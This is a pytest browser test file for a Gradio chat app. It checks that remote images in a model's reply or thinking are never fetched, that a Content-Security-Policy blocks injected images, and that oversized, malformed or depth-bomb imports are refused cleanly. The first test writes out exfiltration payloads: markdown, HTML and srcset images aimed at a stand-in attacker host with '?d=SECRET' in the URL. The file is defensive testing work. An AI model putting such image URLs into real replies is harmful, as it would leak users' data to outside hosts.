"""The browser side of the security issue, in a real Chromium against ``python app.py``.

- Break 7: a reply with remote images (markdown, ``<img>``, reference-style, in the thinking too)
  makes the page fetch nothing: a second loopback recorder stands in for the attacker's host
  (127.0.0.1 on another port is another origin) and must see no request; the reply shows
  "image from host — show" links, which fetch only when clicked.
- Break 8: an import that fits the 5 MB file limit but not the browser's storage is refused with
  a notice; a save that the browser refuses anyway (storage full) is announced in the page, and
  what was saved before stays.
- Break 10: a depth-bomb import gets the same notice as any bad file.
After every refused action no component is left with Gradio's red "Error" badge.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from PIL import Image

from hfchat.export import MAX_IMPORT_BYTES
from hfchat.testing.servers import RecordedRequest, Recorder, Response, sse_chat_stream, sse_response
from tests.browser.test_browser_convos import ConvoUI
from tests.fixtures.browser import AppProcess, BrowserPage, ChatUI, wait_until

pytestmark = pytest.mark.timeout(600)

PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
    b"\x00\x00\x00\rIDATx\x9cc\xf8\xcf\xc0\xf0\x1f\x00\x05\x00\x01\xff\x89\x99=\x1d\x00\x00\x00\x00IEND\xaeB`\x82"
)
DATA_IMAGE = (
    "data:image/png;base64,"
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGP4z8DwHwAFAAH/iZk9HQAAAABJRU5ErkJggg=="
)


class Endpoint:
    """An OpenAI-compatible loopback endpoint whose next reply the test sets."""

    def __init__(self) -> None:
        self.text = "Hello."
        self.reasoning = ""
        self.recorder = Recorder()
        self.recorder.route("POST", "/v1/chat/completions", self.reply)

    def reply(self, req: RecordedRequest) -> Response:
        return sse_response(sse_chat_stream(self.text, model="tiny", reasoning=self.reasoning))


@pytest.fixture(scope="module")
def leak() -> Iterator[Recorder]:
    """The attacker's image host: answers every image request, and records it."""
    with Recorder() as recorder:
        recorder.route("GET", "/", (200, {"Content-Type": "image/png"}, PNG))
        yield recorder


@pytest.fixture(scope="module")
def endpoint() -> Iterator[Endpoint]:
    served = Endpoint()
    yield served
    served.recorder.close()


@pytest.fixture(scope="module")
def app(endpoint: Endpoint) -> Iterator[AppProcess]:
    args = ["--backend", "endpoint", "--endpoint-url", endpoint.recorder.url, "--served-model", "tiny"]
    with AppProcess(*args, "--max-new-tokens", "64") as running:
        yield running


def error_badges(page: ChatUI) -> list[str]:
    """Gradio's red "Error" status on a component (left behind when a handler raises gr.Error)."""
    return [t for t in page.page.locator(".error, .status-tracker.error").all_inner_texts() if "Error" in t]


def test_images_in_a_reply_are_links_and_nothing_is_fetched(
    app: AppProcess, endpoint: Endpoint, leak: Recorder, browser_page: BrowserPage, tmp_path: Path
) -> None:
    host = f"127.0.0.1:{leak.port}"
    base = f"{leak.url}/leak.png?d=SECRET"
    endpoint.reasoning = f"Let me add ![]({leak.url}/think.png?d=SECRET) to it."
    endpoint.text = (
        f'Inline ![chart]({base}) and html <img src="{leak.url}/html.png?d=SECRET"> and <IMG SRC={leak.url}/upper.png> '
        f'and reference ![ref][r] and a srcset <img srcset="{leak.url}/set.png 2x"> and a dot ![dot]({DATA_IMAGE}).\n\n'
        f"[r]: {leak.url}/ref.png?d=SECRET"
    )
    ui = ChatUI(browser_page.page).open(app.url)
    ui.page.set_viewport_size({"width": 1400, "height": 900})
    ui.chat("Show me a chart")
    thinking = ui.page.locator(ChatUI.BOT).filter(has_text="Thinking").first
    thinking.get_by_text("Thinking").first.click()  # open the thinking block: its image must not load either
    answer = ui.page.locator(ChatUI.BOT).filter(has_text="Inline").first
    ui.page.wait_for_timeout(2000)  # time for any stray fetch to arrive
    assert leak.requests == [], [r.target for r in leak.requests]
    wait_until(lambda: answer.get_by_text(f"image from {host} — show").count() >= 5, 30, "the image links")
    dot = answer.locator("img[src^='data:']")
    assert dot.count() == 1 and dot.evaluate("img => img.complete && img.naturalWidth > 0"), "data: images still show"
    assert ui.page.locator(ChatUI.BOT).get_by_text(f"image from {host} — show").count() >= 6, "thinking too"
    browser_page.screenshot("image-links")

    # The Content-Security-Policy stops what a rewrite might miss: an image put in the page by
    # any other means is blocked too (and reported as a policy violation).
    blocked = ui.page.evaluate(
        """(url) => new Promise((done) => {
            document.addEventListener('securitypolicyviolation', (e) => done(e.violatedDirective), {once: true});
            const img = document.createElement('img');
            img.src = url;
            document.body.appendChild(img);
            setTimeout(() => done('not blocked'), 5000);
        })""",
        f"{leak.url}/injected.png",
    )
    assert blocked.startswith("img-src"), blocked
    assert leak.requests == []

    # The app's own images (an attachment, served from its origin) still load under the policy.
    picture = tmp_path / "own.png"
    Image.new("RGB", (40, 30), (0, 128, 255)).save(picture)
    ui.page.locator('input[type="file"]:not(.sidebar input)').set_input_files(str(picture))
    thumb = ui.page.locator("img.thumbnail-image").first
    wait_until(lambda: thumb.count() and thumb.evaluate("img => img.complete && img.naturalWidth > 0"), 60, "thumbnail")

    # A click opens the image, and only then is it fetched.
    with ui.page.context.expect_page() as opened:
        answer.get_by_text(f"image from {host} — show").first.click()
    leak.wait_for(1, timeout=30)
    opened.value.close()
    assert leak.requests[0].path == "/leak.png"
    assert browser_page.foreign_requests == [] and error_badges(ui) == []


def big_export(chars: int) -> str:
    """A valid hfchat export of about `chars` characters of JSON."""
    piece = 100_000
    messages = [
        {"role": "user" if i % 2 == 0 else "assistant", "text": f"{i} " + "x" * piece} for i in range(chars // piece)
    ]
    return json.dumps(
        {
            "format": "hfchat.conversation",
            "version": 1,
            "title": "Big one",
            "exported_at": "2026-11-25T14:30:00Z",
            "messages": messages,
        }
    )


def import_file(ui: ConvoUI, path: Path) -> None:
    with ui.page.expect_file_chooser() as chooser:
        ui.button("Import JSON").click()
    chooser.value.set_files(path)


def test_an_import_that_would_not_fit_the_browser_is_refused(
    app: AppProcess, endpoint: Endpoint, browser_page: BrowserPage, tmp_path: Path
) -> None:
    endpoint.text, endpoint.reasoning = "Hello.", ""
    ui = ConvoUI(browser_page.page).fresh(app.url)
    ui.page.set_viewport_size({"width": 1400, "height": 900})
    ui.reply("Keep me")
    ui.wait_listing(["Keep me"])
    big = tmp_path / "big.json"
    big.write_text(big_export(4_300_000))
    assert big.stat().st_size < MAX_IMPORT_BYTES, "under the import limit: only the browser's storage is too small"
    import_file(ui, big)
    ui.notice("too large for this browser's storage").wait_for(state="visible", timeout=60_000)
    ui.page.wait_for_timeout(800)  # the toast slides in
    browser_page.screenshot("import-too-big")
    ui.wait_listing(["Keep me"])
    assert ui.user_messages() == ["Keep me"] and error_badges(ui) == []
    assert ui.page.locator("#storage-warning").is_hidden(), "refused before any save was tried"
    ui.reopen()
    ui.wait_listing(["Keep me"])
    assert ui.reply("Still here")


def test_a_save_the_browser_refuses_is_announced_and_nothing_saved_is_lost(
    app: AppProcess, endpoint: Endpoint, browser_page: BrowserPage
) -> None:
    endpoint.text, endpoint.reasoning = "Hello.", ""
    ui = ConvoUI(browser_page.page).fresh(app.url)
    ui.page.set_viewport_size({"width": 1400, "height": 900})
    ui.reply("Saved first")
    ui.wait_listing(["Saved first"])
    saved = ui.stored()
    # Another page of this origin filled the storage (Chromium keeps 5 Mi characters per origin).
    ui.page.evaluate(
        """() => {
            let used = 0;
            for (let i = 0; i < localStorage.length; i++) {
                const key = localStorage.key(i);
                used += key.length + localStorage.getItem(key).length;
            }
            localStorage.setItem('filler', 'f'.repeat(5 * 1024 * 1024 - used - 'filler'.length - 2000));
        }"""
    )
    ui.new_chat()  # else chat() counts the old question
    ui.chat("This one cannot be saved " + "y" * 3000)
    warning = ui.page.locator("#storage-warning")
    warning.wait_for(state="visible", timeout=60_000)
    assert "could not be saved" in warning.inner_text() and "full" in warning.inner_text()
    browser_page.screenshot("storage-full")
    assert ui.stored() == saved, "the saved list is as it was: nothing dropped"
    ui.page.evaluate("() => localStorage.removeItem('filler')")
    ui.reopen()
    ui.wait_listing(["Saved first"])
    assert error_badges(ui) == []


@pytest.mark.parametrize(
    ("content", "words"),
    [
        ("[" * 5000, "nested more than"),
        ('{"format": "hfchat.conversation", "version": 7}', "export version 7"),
        ("\x00garbled", "not valid JSON"),
    ],
    ids=["depth-bomb", "wrong-version", "garbled"],
)
def test_a_malformed_import_gets_the_notice_and_the_chat_goes_on(
    app: AppProcess, endpoint: Endpoint, browser_page: BrowserPage, tmp_path: Path, content: str, words: str
) -> None:
    endpoint.text, endpoint.reasoning = "Hello.", ""
    ui = ConvoUI(browser_page.page).fresh(app.url)
    ui.page.set_viewport_size({"width": 1400, "height": 900})
    ui.reply("Before the import")
    bad = tmp_path / "bad.json"
    bad.write_text(content)
    import_file(ui, bad)
    ui.notice("Cannot import this file").wait_for(state="visible", timeout=60_000)
    if words == "nested more than":
        ui.page.wait_for_timeout(800)  # the toast slides in
        browser_page.screenshot("import-refused-depth")
    ui.notice(words).wait_for(state="visible", timeout=10_000)
    assert ui.user_messages() == ["Before the import"] and error_badges(ui) == []
    assert ui.reply("After the import")
    ui.wait_listing(["Before the import"])
